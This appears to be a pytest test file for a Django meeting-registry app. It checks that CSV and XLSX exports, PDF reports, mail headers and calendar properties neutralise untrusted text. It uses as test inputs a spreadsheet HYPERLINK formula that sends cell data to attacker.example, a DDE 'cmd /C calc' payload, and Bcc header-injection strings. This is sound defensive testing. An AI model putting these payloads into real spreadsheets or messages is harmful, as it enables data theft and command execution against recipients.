"""Text that goes into files, headers and markup is neutralised at the boundary (issue 16, section 6).

Spreadsheets: no exported cell is a formula. PDF: markup in a title is shown, never interpreted. Mail headers and
calendar properties: the fields that reach them are one line, checked where they are typed.
"""

from __future__ import annotations

import ast
import csv
import datetime
import io
from pathlib import Path

import icalendar
import openpyxl
import pypdf
import pytest
import tablib
from django.contrib import admin
from django.core.exceptions import ValidationError
from django.urls import reverse

from knowledge.models import Action, Conclusion, NewsItem
from meetings import calendar, services
from meetings.enums import Presence
from meetings.models import AgendaItem, Attendance, Meeting
from members.models import Country, Mandate, Organisation, Person
from members.resources import PersonResource, RegistryResource
from members.services import open_account
from network.lib.neutralise import FORMULA_TRIGGERS, pdf_text, single_line, spreadsheet_cell
from tests import factories
from tests.helpers import form_data

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://attacker.example/?x="&B2,"Agenda")'
MARKUP_TITLE = "Plan <b>B</b> & <img src=x>"
ONE_LINE_MESSAGE = "Write this on one line: line breaks, tabs and other control characters are not allowed."


# --- Spreadsheets -------------------------------------------------------------------------------------------------


def _export(client, model, file_format: str) -> bytes:
    """The admin's export of ``model`` with every field, as CSV or XLSX (the secretariat's two formats)."""
    url = reverse(f"admin:members_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)}
    data.update({"format": {"csv": 0, "xlsx": 1}[file_format], "resource": 0})
    response = client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_rows(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()]


def _column(rows, name: str) -> int:
    header = [c.value if hasattr(c, "value") else c for c in rows[0]]
    return header.index(name)


def test_job_title_typed_as_a_formula_on_the_profile_is_exported_as_text_in_csv_and_xlsx(client, staff):
    director = factories.director(factories.country("BE"), first_name="Bart", last_name="Raeymaekers")
    client.force_login(open_account(director))
    profile = {"preferred_language": "en", "time_zone": "Europe/Brussels", "wants_reminders": "on"}
    assert client.post(reverse("portal:profile"), {**profile, "title": HYPERLINK}).status_code == 302
    director.refresh_from_db()
    assert director.title == HYPERLINK  # stored as typed: it is neutralised where it leaves, not where it comes in

    client.force_login(staff)
    rows = _csv_rows(_export(client, Person, "csv"))
    title, email = _column(rows, "title"), _column(rows, "email")
    assert [row[title] for row in rows if row[email] == director.email] == ["'" + HYPERLINK]

    rows = _xlsx_rows(_export(client, Person, "xlsx"))
    title, email = _column(rows, "title"), _column(rows, "email")
    [cell] = [row[title] for row in rows if row[email].value == director.email]
    assert cell.data_type != "f"
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK


@pytest.fixture
def formula_registry():
    """One row of each registry table with a formula in a text column, each trigger used once."""
    country = factories.country("BE", name_en="=1+1", name_fr="@SUM(A1)")
    organisation = factories.organisation(country, name_en="+cmd|' /C calc'!A0", acronym_en="-2+3", address="\tx")
    person = factories.person(organisation, first_name="@Alex", last_name="=Member", phone="+32 2 501 00 00")
    factories.mandate(person, note="\r=1+1")
    return {"country": country, "organisation": organisation, "person": person}


@pytest.mark.parametrize("model", [Country, Organisation, Person, Mandate])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_cell_of_any_registry_export_is_a_formula(staff_client, formula_registry, model, file_format):
    content = _export(staff_client, model, file_format)
    if file_format == "csv":
        cells = [cell for row in _csv_rows(content)[1:] for cell in row]
    else:
        rows = _xlsx_rows(content)[1:]
        assert [c.coordinate for row in rows for c in row if c.data_type == "f"] == []
        cells = [c.value for row in rows for c in row]
    texts = [c for c in cells if isinstance(c, str)]
    assert [c for c in texts if c.startswith(FORMULA_TRIGGERS)] == []
    assert any(c.startswith("'") and c[1:].startswith(FORMULA_TRIGGERS) for c in texts)  # the row is in the file


def test_registry_export_writes_each_formula_text_with_a_leading_quote(staff_client, formula_registry):
    rows = _csv_rows(_export(staff_client, Organisation, "csv"))
    header, row = rows[0], rows[1]
    values = dict(zip(header, row, strict=True))
    assert values["name_en"] == "'+cmd|' /C calc'!A0"
    assert values["acronym_en"] == "'-2+3"
    assert values["address"] == "'\tx"
    people = _csv_rows(_export(staff_client, Person, "csv"))
    values = dict(zip(people[0], people[1], strict=True))
    assert (values["first_name"], values["last_name"], values["phone"]) == ("'@Alex", "'=Member", "'+32 2 501 00 00")
    mandates = _csv_rows(_export(staff_client, Mandate, "csv"))
    assert dict(zip(mandates[0], mandates[1], strict=True))["note"] == "'\r=1+1"


def test_a_control_character_xlsx_cannot_hold_does_not_fail_the_export(staff_client):
    factories.organisation(factories.country("BE"), address="Rue de la Loi 16\x0b1000 Brussels")
    rows = _xlsx_rows(_export(staff_client, Organisation, "xlsx"))
    assert rows[1][_column(rows, "address")].value == "Rue de la Loi 16\N{REPLACEMENT CHARACTER}1000 Brussels"


def test_numbers_in_an_xlsx_export_stay_numbers(staff_client, formula_registry):
    rows = _xlsx_rows(_export(staff_client, Organisation, "xlsx"))
    cell = rows[1][_column(rows, "id")]
    assert (cell.data_type, cell.value) == ("n", formula_registry["organisation"].pk)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+32 2 501 00 00", "'+32 2 501 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Director-General", "Director-General"),
        ("", ""),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
        (datetime.date(2022, 3, 29), datetime.date(2022, 3, 29)),
    ],
)
def test_spreadsheet_cell_quotes_text_that_starts_a_formula_and_leaves_other_values(value, expected):
    assert spreadsheet_cell(value) == expected


def test_a_people_file_exported_and_imported_again_keeps_its_values(formula_registry):
    person = formula_registry["person"]
    exported = PersonResource().export(Person.objects.filter(pk=person.pk))
    assert exported.dict[0]["phone"] == "'+32 2 501 00 00"
    Person.objects.filter(pk=person.pk).update(phone="", first_name="Changed")

    dataset = tablib.Dataset(headers=exported.headers)
    dataset.append(exported[0])
    result = PersonResource().import_data(dataset, dry_run=False, raise_errors=True)

    assert not result.has_errors() and not result.has_validation_errors()
    person.refresh_from_db()
    assert (person.first_name, person.last_name, person.phone) == ("@Alex", "=Member", "+32 2 501 00 00")


def test_participant_list_csv_writes_formulas_as_text(staff_client):
    director = factories.director(factories.country("BE"), first_name="=Bart", last_name="-Raeymaekers")
    meeting = factories.meeting()
    factories.invitation(meeting, director, remarks="@SUM(A1:A9)")
    response = staff_client.get(reverse("admin:meetings_meeting_participants_csv", args=[meeting.pk]))
    rows = _csv_rows(response.content)
    values = dict(zip(rows[0], rows[1], strict=True))
    assert (values["Name"], values["Remarks"]) == ("'=Bart -Raeymaekers", "'@SUM(A1:A9)")


def test_every_admin_export_uses_the_neutralising_resource():
    resources = [
        resource
        for model_admin in admin.site._registry.values()
        for resource in getattr(model_admin, "resource_classes", [])
    ]
    assert resources  # the registry's four exports at least
    assert [r.__name__ for r in resources if not issubclass(r, RegistryResource)] == []


# --- PDF ----------------------------------------------------------------------------------------------------------


def _pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF")
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)


@pytest.fixture
def markup_meeting():
    """A held meeting whose title, people, agenda, conclusions, actions and notes are full of reportlab markup."""
    organisation = factories.organisation(factories.country("BE"), name_en="Centre <i>de crise</i> & co")
    director = factories.person(organisation, first_name="Anna", last_name="<font size=40>Big</font>")
    factories.mandate(director)
    meeting = factories.meeting(title_en=MARKUP_TITLE, summary_en="First <u>line</u>\nSecond & last")
    AgendaItem.objects.create(meeting=meeting, title_en="Item <a href='x'>link</a>", duration_minutes=30)
    services.invite(meeting, director)
    services.send_invitations(meeting)
    invitation = meeting.invitations.get()
    invitation.remarks = "<img src=y> vegetarian"
    invitation.save()
    Attendance.objects.create(
        meeting=meeting, invitation=invitation, person=director, presence=Presence.IN_PERSON, note="<br/> late"
    )
    conclusion = Conclusion.objects.create(meeting=meeting, number=1, text_en="Agreed <strike>not</strike> & done")
    Action.objects.create(
        conclusion=conclusion,
        title_en="Share <b>the</b> plan",
        owner_organisation=organisation,
        due_date=datetime.date(2027, 6, 1),
    )
    return meeting, director


def _squashed(text: str) -> str:
    return " ".join(text.split())


def test_meeting_report_shows_a_title_with_markup_literally(client, markup_meeting):
    meeting, director = markup_meeting
    client.force_login(open_account(director))
    response = client.get(reverse("portal:report", args=[meeting.pk]), {"lang": "en"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = _squashed(_pdf_text(response.content))
    for shown in (
        MARKUP_TITLE,
        "First <u>line</u> Second & last",
        "Item <a href='x'>link</a>",
        "Centre <i>de crise</i> & co",
        "Agreed <strike>not</strike> & done",
        "Share <b>the</b> plan",
    ):
        assert shown in text


@pytest.mark.parametrize("document", ["participants_pdf", "attendance_pdf"])
def test_participant_list_and_attendance_register_show_markup_literally(staff_client, markup_meeting, document):
    meeting, _director = markup_meeting
    response = staff_client.get(reverse(f"admin:meetings_meeting_{document}", args=[meeting.pk]))
    assert response.status_code == 200
    text = _squashed(_pdf_text(response.content))
    assert MARKUP_TITLE in text
    assert "<font size=40>Big</font>" in text
    assert ("<img src=y> vegetarian" if document == "participants_pdf" else "<br/> late") in text


@pytest.mark.parametrize(
    ("value", "markup"),
    [
        (MARKUP_TITLE, "Plan &lt;b&gt;B&lt;/b&gt; &amp; &lt;img src=x&gt;"),
        ("O'Brien", "O&#x27;Brien"),
        (None, ""),
        (3, "3"),
    ],
)
def test_pdf_text_escapes_every_markup_character(value, markup):
    assert pdf_text(value) == markup


def test_pdf_text_keeps_line_breaks_only_when_asked():
    assert pdf_text("a <b>\r\nb\rc\nd", line_breaks=True) == "a &lt;b&gt;<br/>b<br/>c<br/>d"
    assert pdf_text("a\nb") == "a\nb"


def _paragraph_text_is_escaped(node: ast.expr) -> bool:
    """The first argument of ``Paragraph(...)`` is ``pdf_text(...)``, or an f-string / concatenation whose only
    non-constant parts are ``pdf_text(...)``."""
    if isinstance(node, ast.Call):
        return isinstance(node.func, ast.Name) and node.func.id == "pdf_text"
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.JoinedStr):
        return all(isinstance(part, ast.Constant) or _paragraph_text_is_escaped(part.value) for part in node.values)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _paragraph_text_is_escaped(node.left) and _paragraph_text_is_escaped(node.right)
    return False


def test_every_paragraph_in_the_code_gets_its_text_through_pdf_text():
    sources = [
        path
        for folder in (
            "members",
            "meetings",
            "knowledge",
            "logistics",
            "decisions",
            "alerts",
            "questionnaires",
            "portal",
            "network",
        )
        for path in (ROOT / folder).rglob("*.py")
        if "migrations" not in path.parts
    ]
    calls = []
    for path in sources:
        tree = ast.parse(path.read_text(), filename=str(path))
        # reportlab's Paragraph, not a model of that name (a draft text's numbered paragraph).
        if not any(
            isinstance(node, ast.ImportFrom)
            and (node.module or "").startswith("reportlab")
            and any(alias.name == "Paragraph" for alias in node.names)
            for node in ast.walk(tree)
        ):
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", "")) == "Paragraph":
                calls.append((f"{path.relative_to(ROOT)}:{node.lineno}", _paragraph_text_is_escaped(node.args[0])))
    assert len(calls) >= 10
    assert [where for where, escaped in calls if not escaped] == []


# --- Mail headers and calendar properties -------------------------------------------------------------------------

LANGUAGES = ("en", "fr", "nl", "de")
ONE_LINE_FIELDS = [
    (Country, "name", LANGUAGES),
    (Organisation, "name", LANGUAGES),
    (Organisation, "acronym", LANGUAGES),
    (Person, "first_name", ()),
    (Person, "last_name", ()),
    (Person, "title", LANGUAGES),
    (Meeting, "title", LANGUAGES),
    (Meeting, "venue_name", ()),
    (Meeting, "venue_address", ()),
    (Meeting, "venue_city", ()),
    (Meeting, "video_link", ()),
    (Action, "title", LANGUAGES),
    (NewsItem, "title", LANGUAGES),
]


@pytest.mark.parametrize(
    ("model", "field_name"),
    [
        (model, name if not language else f"{name}_{language}")
        for model, field, languages in ONE_LINE_FIELDS
        for name, language in [(field, None), *((field, lang) for lang in languages)]
    ],
)
def test_fields_that_reach_headers_and_calendars_are_one_line(model, field_name):
    assert single_line in model._meta.get_field(field_name).validators


@pytest.mark.parametrize(
    "value",
    [
        "Spring meeting\nBcc: everyone@example.org",
        "Spring meeting\r\nX-Evil: 1",
        "Spring\rmeeting",
        "Spring\tmeeting",
        "Spring\x0bmeeting",
        "Spring\x85meeting",  # NEL
        "Spring\u2028meeting",  # line separator
        "Spring\u2029meeting",  # paragraph separator
    ],
)
def test_single_line_refuses_line_breaks_and_control_characters(value):
    with pytest.raises(ValidationError) as caught:
        single_line(value)
    assert caught.value.messages == [ONE_LINE_MESSAGE]
    assert caught.value.code == "single_line"


@pytest.mark.parametrize("value", ["", "Réunion de printemps", MARKUP_TITLE, "O'Brien; Smith, Jr. — ŁÓDŹ", HYPERLINK])
def test_single_line_accepts_any_one_line_text(value):
    single_line(value)


def _meeting_change(client, meeting, **changes):
    url = reverse("admin:meetings_meeting_change", args=[meeting.pk])
    data = form_data(client.get(url).content, "meeting_form")
    data.update(changes)
    return client.post(url, data)


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_title_with_a_line_break_is_refused_in_the_admin_on_its_own_language_tab(staff_client, language):
    meeting = factories.meeting(title_en="Spring meeting")
    response = _meeting_change(staff_client, meeting, **{f"title_{language}": "Spring\nBcc: all@example.org"})

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert errors == {f"title_{language}": [ONE_LINE_MESSAGE]}
    page = response.content.decode()
    # The message is rendered in the row of that language's field, which sits in that language's tab.
    row_start = page.index(f"field-title_{language}")
    assert ONE_LINE_MESSAGE in page[row_start : page.index(f'id="id_title_{language}"', row_start)]
    meeting.refresh_from_db()
    assert getattr(meeting, f"title_{language}") in ("Spring meeting", None, "")


def test_a_venue_with_a_line_break_is_refused_in_the_admin(staff_client):
    meeting = factories.meeting()
    response = _meeting_change(staff_client, meeting, venue_address="Rue 1\r\nLOCATION:elsewhere")
    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {"venue_address": [ONE_LINE_MESSAGE]}


def test_a_job_title_with_a_line_break_is_refused_on_the_profile_page(client):
    director = factories.director(factories.country("BE"), title_en="Director-General")
    client.force_login(open_account(director))
    profile = {"preferred_language": "en", "time_zone": "Europe/Brussels", "wants_reminders": "on"}
    response = client.post(reverse("portal:profile"), {**profile, "title": "Director\nGeneral"})
    assert response.status_code == 400
    assert response.context["form"].errors == {"title": [ONE_LINE_MESSAGE]}
    director.refresh_from_db()
    assert director.title_en == "Director-General"


@pytest.mark.parametrize(
    ("column", "value"),
    [("last_name", "Smith\r\nBcc: all@example.org"), ("title", "Director\nGeneral"), ("first_name", "Anna\tMaria")],
)
def test_a_name_with_a_line_break_is_a_row_error_in_a_people_import(column, value):
    organisation = factories.organisation(factories.country("BE"), acronym_en="NCCN")
    row = {
        "email": "new.person@example.org",
        "first_name": "Anna",
        "last_name": "Smith",
        "title": "",
        "organisation": "NCCN",
    }
    row[column] = value
    dataset = tablib.Dataset(headers=list(row))
    dataset.append(list(row.values()))
    result = PersonResource().import_data(dataset, dry_run=True)
    assert result.has_validation_errors()
    [invalid] = result.invalid_rows
    assert invalid.error_dict == {column: [ONE_LINE_MESSAGE]}
    assert not Person.objects.filter(organisation=organisation).exists()


def test_a_service_that_validates_refuses_a_multi_line_title():
    with pytest.raises(ValidationError) as caught:
        factories.meeting(title_en="Spring\nmeeting")  # the factory saves through full_clean, as services do
    # ``title`` is modeltranslation's view of the active language's field (English here).
    assert caught.value.message_dict == {"title": [ONE_LINE_MESSAGE], "title_en": [ONE_LINE_MESSAGE]}


def _event(ics: bytes) -> icalendar.Event:
    [event] = icalendar.Calendar.from_ical(ics).walk("VEVENT")
    return event


def test_calendar_text_properties_read_back_exactly_as_written():
    director = factories.director(factories.country("BE"), first_name="Ann; Marie", last_name='O"Brien, Jr.')
    meeting = factories.meeting(
        title_en="Plan <b>B</b>; costs, risks \\ next",
        venue_name="Hall 1; west, wing",
        venue_address="Rue de la Loi 16",
        venue_city="Brussels",
    )
    invitation = factories.invitation(meeting, director)
    description = "Agenda:\n1. Costs; risks, next\r\n2. \\N is not a line break"

    event = _event(calendar.invitation_ics(invitation, description=description))

    assert str(event["summary"]) == "Plan <b>B</b>; costs, risks \\ next"
    assert str(event["location"]) == "Hall 1; west, wing, Rue de la Loi 16, Brussels"
    assert str(event["description"]).startswith("Agenda:\n1. Costs; risks, next\n2. ")
    assert event["attendee"].params["cn"] == 'Ann; Marie O"Brien, Jr.'


def test_words_filled_into_a_batch_calendar_cannot_start_a_property():
    director = factories.director(factories.country("BE"))
    meeting = factories.meeting()
    invitation = factories.invitation(meeting, director)
    form = calendar.InvitationCalendar(meeting, description="Dear NAMESTANDIN,")

    ics = form.fill(invitation, {"NAMESTANDIN": "Ann\rX-INJECTED:1\nY-INJECTED:2"})

    lines = ics.decode().replace("\r\n ", "").split("\r\n")
    assert [line for line in lines if "INJECTED" in line and not line.startswith("DESCRIPTION")] == []
    assert str(_event(ics)["description"]) == "Dear Ann\nX-INJECTED:1\nY-INJECTED:2,"


def test_a_subject_is_made_one_line_and_keeps_its_non_breaking_spaces():
    from network.lib.neutralise import header_text

    assert (
        header_text("ALERTE\u00a0: Panne\r\nBcc: x@example.org\t\u2028 fin ")
        == "ALERTE\u00a0: Panne Bcc: x@example.org fin"
    )
    assert header_text("  \n ") == ""
